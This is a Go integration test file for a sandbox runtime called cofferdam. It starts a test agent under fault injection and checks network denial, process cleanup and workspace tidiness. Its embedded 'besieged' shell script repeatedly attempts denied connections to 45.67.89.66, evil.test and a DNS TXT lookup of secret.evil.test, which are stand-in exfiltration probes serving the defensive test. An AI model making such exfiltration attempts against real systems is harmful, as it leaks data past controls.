//go:build linux

package integration

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"cofferdam.dev/cofferdam/integration/ctrd"
	"cofferdam.dev/cofferdam/integration/lab"
	"cofferdam.dev/cofferdam/netns/fault"
	"cofferdam.dev/cofferdam/shim/sandbox"
)

// A stage is a way in which a sandbox comes to be, for tests that do the same to each. All sandboxes of a stage have the same ID: each start
// follows what is left of the one before.
type stage struct {
	name  string
	id    string // of the sandbox
	paths sandbox.Paths
	// command runs a program in the sandbox with its streams here, until that ends.
	command func(t testing.TB, args ...string) *exec.Cmd
	probe   string // where the agent finds it
	work    string // where the agent finds its workspace
	// owners are the processes whose sandbox it is.
	owners func(t testing.TB, cmd *exec.Cmd) []int
	// forget has the engine forget the container, if there is one.
	forget func(t testing.TB)
	// gc runs cofferdam gc.
	gc func(t testing.TB) ctrd.Result
	// alone says that there is no engine: everything that runs ends with the owner.
	alone bool
	// policy is the file that the sandbox follows; user is who calls.
	policy string
	user   uint32
	// workspace is what there is in it, but for what the agent made.
	workspace func(t testing.TB) []string
}

// victim is the name that the sandboxes have. It is no other run's: cgroups are the host's.
func victim() string {
	a, _ := lab.Inside()
	return "victim-" + strings.TrimPrefix(filepath.Base(a.Dir), lab.RunPrefix)
}

// besieged is what the agent does: all the time it tries to reach what is denied, and it writes to the workspace. It says whether it reached what
// is allowed, at first and for each line of its input, with which it ends. For a line "hog" it uses much memory. It opens nothing to write after the start: without a broker
// it could not.
const besieged = `cd "$1"; P=$0; exec 3>/dev/null 2>&3
(while :; do $P -patience 200ms tcp 45.67.89.66:5432 x; $P -patience 200ms https 45.67.89.66:443 evil.test
$P -patience 200ms dns secret.evil.test 8.8.8.8:53 TXT; sleep 0.05; done) >&3 &
echo x >made
if $P -patience 5s https good.test:443 good.test >&3; then echo reached; else echo refused; fi
while read x; do case $x in
hog) (a=$(head -c 400000000 /dev/zero | tr "\0" x); echo survived) || echo killed;;
*) if $P -patience 500ms https good.test:443 good.test >&3; then echo reached; else echo refused; fi;;
esac; done`

// runFront is cofferdam run, called by p; bin holds the binaries.
func runFront(t testing.TB, p person, bin string) *stage {
	paths := sandbox.DefaultPaths()
	if p.id != 0 {
		paths = sandbox.UserPaths(filepath.Join(p.home, "run"), filepath.Join(p.home, ".local/state"), filepath.Join(p.home, ".config"))
	}
	command := func(t testing.TB, args ...string) *exec.Cmd {
		cmd := p.command(t, args...)
		cmd.Path = filepath.Join(bin, "cofferdam")
		return cmd
	}
	policy := filepath.Join(p.home, "policy.yaml")
	if err := errors.Join(os.WriteFile(policy, []byte(onlyGood), 0o644), os.Chown(policy, int(p.id), int(p.id))); err != nil {
		t.Fatal(err)
	}
	return &stage{
		policy: policy, user: p.id, name: p.name, id: "run:" + victim(), alone: true, paths: paths, probe: filepath.Join(p.dir, "probe"), work: ".",
		command: func(t testing.TB, args ...string) *exec.Cmd {
			return command(t, append([]string{"run", "--name", victim(), "--policy", policy, "--read", p.dir, "--"}, args...)...)
		},
		owners: func(_ testing.TB, cmd *exec.Cmd) []int { return []int{cmd.Process.Pid} },
		forget: func(testing.TB) {},
		gc:     func(t testing.TB) ctrd.Result { return finish(t, command(t, "gc")) },
		workspace: func(t testing.TB) []string {
			return others(t, p.workspace())
		},
	}
}

// shimFront is a container of d.
func shimFront(t testing.TB, d *ctrd.Daemon, bin string) *stage {
	policy, ws := Policy(t, onlyGood), Workspace(t)
	return &stage{
		policy: filepath.Join("/etc/cofferdam/policies", policy+".yaml"), name: d.Engine.Name, id: d.Namespace + ":" + victim(), paths: sandbox.DefaultPaths(), probe: "probe", work: "/workspace",
		command: func(t testing.TB, args ...string) *exec.Cmd {
			all := []string{
				"run", "--rm", "--runtime", ctrd.Cofferdam, "--annotation", "cofferdam.dev/policy=" + policy,
				"--mount", "type=bind,src=" + ws + ",dst=/workspace,options=rbind:rw", agentImage, victim(),
			}
			return d.Command(context.WithoutCancel(t.Context()), append(all, args...)...)
		},
		owners: func(testing.TB, *exec.Cmd) []int { return shimsOf(victim()) },
		forget: func(t testing.TB) {
			// containerd tidies up after a dead shim in its own time.
			eventually(t, "containerd forgets the container", func() bool {
				err := d.Forget(victim())
				return err == nil && !strings.Contains(d.MustCtr(t, "task", "list").Stdout, victim())
			})
			// If "shim delete" was killed too, containerd tries it once more when it starts.
			if _, err := d.Bundle(victim()); err == nil {
				d.Restart(t, unix.SIGTERM)
				eventually(t, "containerd removes the bundle", func() bool { _, err := d.Bundle(victim()); return err != nil })
			}
		},
		gc: func(t testing.TB) ctrd.Result {
			cmd := cliCommand(t, "gc")
			cmd.Path = filepath.Join(bin, "cofferdam")
			return finish(t, cmd)
		},
		workspace: func(t testing.TB) []string { return others(t, ws) },
	}
}

// others are the names in a workspace that the agent has not made. It removes what the agent has made.
func others(t testing.TB, dir string) (names []string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.Name() != "made" {
			names = append(names, e.Name())
		}
	}
	if err := os.RemoveAll(filepath.Join(dir, "made")); err != nil {
		t.Fatal(err)
	}
	return names
}

// A siege is one agent, besieged, from its start to its end.
type siege struct {
	stage  *stage
	cmd    *exec.Cmd
	in     io.WriteCloser
	lines  chan string // of its output
	errors *os.File    // its standard error
	ended  chan struct{}
	first  string // its first line: reached, refused, or empty if it has ended before
}

// patience of these tests with what takes well below a second.
const faultPatience = 15 * time.Second

// begin starts an agent and waits until it has said whether it reached what is allowed, or has ended.
func (f *stage) begin(t testing.TB) *siege {
	t.Helper()
	s := f.launch(t)
	s.listen(t)
	return s
}

// launch starts an agent.
func (f *stage) launch(t testing.TB) *siege {
	t.Helper()
	s := &siege{stage: f, cmd: f.command(t, "sh", "-c", besieged, f.probe, f.work), lines: make(chan string, 16), ended: make(chan struct{})}
	// Files, so that the command's end is seen also if something of it lives on that has its streams.
	out, theirs, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	if s.errors, err = os.CreateTemp(t.TempDir(), "stderr"); err != nil {
		t.Fatal(err)
	}
	if s.in, err = s.cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	s.cmd.Stdout, s.cmd.Stderr = theirs, s.errors
	if s.cmd.SysProcAttr == nil {
		s.cmd.SysProcAttr = &syscall.SysProcAttr{}
	}
	s.cmd.SysProcAttr.Setpgid = true // a job that stops is not to stop the tests
	if err := s.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	theirs.Close()
	go func() { // ends with the last process that has it, or the test
		for scan := bufio.NewScanner(out); scan.Scan(); {
			s.lines <- scan.Text()
		}
	}()
	go func() {
		_ = s.cmd.Wait()
		close(s.ended)
	}()
	t.Cleanup(func() {
		out.Close()
		s.errors.Close()
	})
	return s
}

// listen waits until the agent has said something or has ended.
func (s *siege) listen(t testing.TB) {
	t.Helper()
	select {
	case s.first = <-s.lines:
	case <-s.ended:
		select {
		case s.first = <-s.lines:
		case <-time.After(10 * time.Millisecond): // what it said is in the pipe
		}
	case <-time.After(faultPatience):
		t.Errorf("%s: the agent says nothing: %s\n%s", s.stage.name, s.stderr(), where(s.cmd.Process.Pid))
		s.kill()
	}
}

// stderr is what the command said so far.
func (s *siege) stderr() string {
	text, err := os.ReadFile(s.errors.Name())
	if err != nil {
		return err.Error()
	}
	return string(text)
}

// asks lets the agent do something and returns what it says: by default, whether it reached once more what is allowed.
func (s *siege) asks(what string) string {
	_, _ = io.WriteString(s.in, what+"\n")
	select {
	case line := <-s.lines:
		return line
	case <-s.ended:
		return "nothing: the command has ended: " + s.stderr()
	case <-time.After(5 * time.Second):
		return "nothing"
	}
}

// reaches waits until the agent reaches what is allowed.
func (s *siege) reaches(t testing.TB) {
	t.Helper()
	var said string
	for deadline := time.Now().Add(faultPatience); time.Now().Before(deadline); {
		if said = s.asks("again"); said == "reached" {
			return
		}
	}
	t.Errorf("what is allowed is not reached again: %s", said)
}

// end ends the agent's input and waits for the command's end.
func (s *siege) end(t testing.TB) {
	t.Helper()
	s.in.Close()
	s.wait(t)
}

func (s *siege) wait(t testing.TB) {
	t.Helper()
	select {
	case <-s.ended:
	case <-time.After(faultPatience):
		t.Errorf("%s: the command does not end: %s\n%s", s.stage.name, s.stderr(), where(s.cmd.Process.Pid))
		s.kill()
	}
}

func (s *siege) kill() {
	_ = s.cmd.Process.Kill()
	s.in.Close()
	<-s.ended
}

// where tells what a process that hangs is doing.
func where(pid int) string {
	var b strings.Builder
	for _, file := range []string{"status", "stack", "wchan"} {
		text, _ := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, file))
		fmt.Fprintf(&b, "%s: %s\n", file, text)
	}
	return b.String()
}

// unheard fails the test if the lab saw something after m that is not allowed.
func unheard(t testing.TB, l *lab.Lab, m lab.Mark) {
	t.Helper()
	var denied []lab.Event
	for _, e := range l.Since(t, m) {
		to := e.Dst.Addr().String()
		if to != lab.Good && to != "9.9.9.9" || strings.Contains(e.Detail, "evil") {
			denied = append(denied, e)
		}
	}
	if len(denied) > 0 {
		t.Errorf("the internet saw what is denied:\n%s", lab.Join(denied))
	}
}

// keptBetween are lines of a snapshot that no sandbox of these tests can be blamed for.
var keptBetween = append([]string{"containerd --config", fault.Folder}, notOfASandbox...)

// ends checks that what runs ends with its owner.
func (f *stage) ends(t testing.TB, before lab.Snapshot) {
	t.Helper()
	if !f.alone {
		return
	}
	var left []string
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		left = slices.DeleteFunc(lab.Take().Since(before), func(line string) bool {
			return !strings.HasPrefix(line, "process ") && !strings.HasPrefix(line, "netns ") && !strings.HasPrefix(line, "mount ")
		})
		if len(left) == 0 {
			return
		}
	}
	t.Errorf("this lives on without its owner:\n\t%s", strings.Join(left, "\n\t"))
}

// tidies checks that what is left of the sandbox can be removed by those whose work that is, and by the ID alone, twice.
func (f *stage) tidies(t testing.TB, before lab.Snapshot) {
	t.Helper()
	f.forget(t)
	if got := f.gc(t); got.Code == 137 { // the fault was for this one
		got = f.gc(t)
		if got.Code != 0 {
			t.Errorf("gc: %s", got)
		}
	}
	if sandbox.Owned(f.paths, f.id) {
		eventually(t, "nobody owns the sandbox", func() bool { return !sandbox.Owned(f.paths, f.id) })
	}
	for range 2 {
		if err := sandbox.Teardown(f.paths, f.id); err != nil {
			t.Errorf("teardown by the ID: %v", err)
		}
	}
	lab.NoLeftovers(t, before, keptBetween...)
	for _, pattern := range []string{"/sys/fs/cgroup/", "/sys/fs/cgroup/*/"} { // not of the lab's
		if found, _ := filepath.Glob(pattern + "cofferdam/" + victim()); len(found) > 0 {
			t.Errorf("left behind: %v", found)
		}
	}
	if names := f.workspace(t); len(names) > 0 {
		t.Errorf("the workspace holds %v", names)
	}
}

// works checks that a sandbox of this stage starts, does its work and ends.
func (f *stage) works(t testing.TB) {
	t.Helper()
	s := f.begin(t)
	s.end(t)
	if code := s.cmd.ProcessState.ExitCode(); s.first != "reached" || code > 1 { // 1: read at the end of its input
		t.Errorf("the next start: it said %q and ended with %d: %s", s.first, code, s.stderr())
	}
}

// shimsOf are the processes that serve a container.
func shimsOf(id string) (pids []int) {
	files, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, file := range files {
		cmd, err := os.ReadFile(file)
		if err != nil {
			continue // it has ended
		}
		args := strings.Split(string(cmd), "\x00")
		pid := 0
		if strings.HasPrefix(filepath.Base(args[0]), "containerd-shim-cofferdam") && strings.Contains(string(cmd), "\x00-id\x00"+id+"\x00") {
			if _, err := fmt.Sscanf(file, "/proc/%d/", &pid); err == nil {
				pids = append(pids, pid)
			}
		}
	}
	return pids
}

// continueStopped continues processes that a fault has stopped, until the test is over. While one stands still nothing may get out, which the
// caller looks at.
func continueStopped(ctx context.Context) (done chan struct{}) {
	done = make(chan struct{})
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			passed, _ := fault.Passed(fault.Folder)
			for _, p := range passed {
				if p.Done == fault.Stop {
					select { // the agent has some time to use that
					case <-ctx.Done():
					case <-time.After(300 * time.Millisecond):
					}
					if err := unix.Kill(p.PID, unix.SIGCONT); err == nil || errors.Is(err, unix.ESRCH) {
						return
					}
				}
			}
			time.Sleep(5 * time.Millisecond)
		}
	}()
	return done
}
